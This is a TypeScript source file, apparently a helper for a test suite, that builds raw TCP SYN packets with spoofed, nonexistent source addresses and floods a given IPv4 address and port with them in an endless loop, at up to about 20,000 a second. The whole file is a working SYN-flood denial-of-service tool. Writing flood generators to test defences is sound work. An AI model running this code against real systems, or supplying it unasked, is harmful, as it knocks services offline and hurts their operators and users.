/**
 * A stranger of group.test.ts: `node group-flood.ts ADDRESS PORT` sends SYN segments to an IPv4 address, each from another
 * source that does not exist, 20 000 a second at most, until it is ended.
 */
import { setTimeout as sleep } from 'node:timers/promises';
import { checksum } from '../../lib/checksum.ts';
import * as libc from '../../lib/libc.ts';
import { AF_INET, IPPROTO_TCP, SOCK_RAW } from '../../lib/linux.ts';
import { address, addressBytes } from '../../lib/prefix.ts';

/** linux/in.h: a raw socket of this protocol sends packets with their IP header. */
const IPPROTO_RAW = 255;
const SYN = 0x02;

const [to = '', port = ''] = process.argv.slice(2);
const target = addressBytes(address(to));
const destination = libc.sockaddr(to, 0);
const fd = libc.socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

function segment(n: number): Buffer {
  const source = [10, 99, (n >> 8) & 255, n & 255];
  const tcp = Buffer.alloc(20);
  tcp.writeUInt16BE(1024 + (n % 60_000));
  tcp.writeUInt16BE(Number(port), 2);
  tcp.writeUInt32BE(n, 4);
  tcp.set([0x50, SYN, 0xff, 0xff], 12);
  const pseudo = Buffer.from([...source, ...target, 0, IPPROTO_TCP, 0, tcp.length]);
  tcp.writeUInt16BE(checksum(pseudo, tcp), 16);
  const ip = Buffer.from([0x45, 0, 0, 40, 0, 0, 0, 0, 64, IPPROTO_TCP, 0, 0, ...source, ...target]);
  return Buffer.concat([ip, tcp]);
}

for (let n = 0; ; n++) {
  libc.sendto(fd, segment(n), destination);
  if (n === 1000) console.log('flooding');
  if (n % 100 === 0) await sleep(5);
}
